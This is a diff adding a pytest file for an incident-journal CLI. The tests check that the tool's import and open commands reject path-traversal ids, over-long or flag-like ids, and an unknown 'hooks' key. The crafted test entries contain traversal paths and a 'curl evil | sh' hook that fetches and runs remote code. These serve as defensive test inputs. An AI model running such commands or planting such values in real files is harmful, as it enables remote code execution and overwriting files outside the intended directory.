@@ -1,0 +1,112 @@
+"""Nothing ij does writes outside the journal: every id a path is built from follows one rule
+(letters, digits, dashes, underscores; at most 80), checked before anything is written."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+from conftest import Run, ij_subprocess, snapshot
+
+
+def _tree(root: Path) -> dict[str, bytes]:
+    """Every file under `root` (outside .git) with its bytes."""
+    return {
+        str(p.relative_to(root)): p.read_bytes()
+        for p in sorted(root.rglob("*"))
+        if p.is_file() and ".git" not in p.relative_to(root).parts
+    }
+
+
+@pytest.fixture
+def exported(run: Run, journal_dir: Path, tmp_path: Path) -> dict[str, object]:
+    run("open", "Checkout errors", "--sev", "2", "--id", "co")
+    run("note", "pool at 5/5")
+    incident = next((journal_dir / "incidents").iterdir()).name
+    data: dict[str, object] = json.loads(run("export", "-i", incident).stdout)
+    return data
+
+
+@pytest.fixture
+def other(tmp_path: Path) -> tuple[Path, Run]:
+    root = tmp_path / "other"
+    Run(tmp_path)("init", str(root))
+    return root, Run(root)
+
+
+def _import(other: tuple[Path, Run], tmp_path: Path, data: dict[str, object]) -> str:
+    root, run = other
+    path = tmp_path / "crafted.json"
+    path.write_text(json.dumps(data))
+    victim = tmp_path / "elsewhere" / "victim.toml"
+    victim.parent.mkdir(exist_ok=True)
+    victim.write_text("mine = true\n")
+    before, files = snapshot(root), _tree(tmp_path)
+    result = run("import", str(path), code=2)
+    assert _tree(tmp_path) == files  # nothing written or changed anywhere under tmp_path
+    assert snapshot(root) == before
+    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
+    return str(result.stderr)
+
+
+def test_an_entry_id_that_climbs_out_of_the_journal_is_refused(
+    exported: dict[str, object], other: tuple[Path, Run], tmp_path: Path
+) -> None:
+    entries = exported["entries"]
+    assert isinstance(entries, list)
+    entries[-1]["id"] = "../../../../elsewhere/victim"
+    said = _import(other, tmp_path, exported)
+    assert "entry 2: invalid entry id '../../../../elsewhere/victim'" in said
+
+
+def test_a_crafted_entry_writing_another_tools_config_is_refused(
+    exported: dict[str, object], other: tuple[Path, Run], tmp_path: Path
+) -> None:
+    entries = exported["entries"]
+    assert isinstance(entries, list)
+    entries[-1].update({"id": "../../config", "hooks": {"post": "curl evil | sh"}})
+    said = _import(other, tmp_path, exported)
+    assert "invalid entry id '../../config'" in said
+
+
+def test_an_unknown_key_in_a_valid_entry_is_named(
+    exported: dict[str, object], other: tuple[Path, Run], tmp_path: Path
+) -> None:
+    entries = exported["entries"]
+    assert isinstance(entries, list)
+    entries[-1]["hooks"] = {"post": "curl evil | sh"}
+    assert "entry 2: unknown key 'hooks'" in _import(other, tmp_path, exported)
+
+
+def test_an_incident_id_that_climbs_out_is_refused(
+    exported: dict[str, object], other: tuple[Path, Run], tmp_path: Path
+) -> None:
+    incident = exported["incident"]
+    assert isinstance(incident, dict)
+    incident["id"] = "../../elsewhere"
+    assert "invalid incident id '../../elsewhere'" in _import(other, tmp_path, exported)
+
+
+@pytest.mark.parametrize(
+    ("given", "said"),
+    [
+        ("a b", "invalid incident id 'a b'"),
+        ("README.md", "use letters, digits, dashes and underscores"),
+        ("x" * 300, "characters long: use at most 80"),
+        ("-rf", "use letters, digits, dashes and underscores"),
+    ],
+)
+def test_open_refuses_an_id_that_is_not_plain(
+    run: Run, journal_dir: Path, given: str, said: str
+) -> None:
+    before = snapshot(journal_dir)
+    result = run("open", "Checkout errors", "--id", given, code=2)
+    assert said in result.stderr and result.stderr.count("\n") == 1
+    assert snapshot(journal_dir) == before
+
+
+def test_a_long_id_as_a_real_process(journal_dir: Path) -> None:
+    proc = ij_subprocess(journal_dir, "open", "Checkout errors", "--id", "y" * 300)
+    assert proc.returncode == 2
+    assert "use at most 80" in proc.stderr and "File name too long" not in proc.stderr
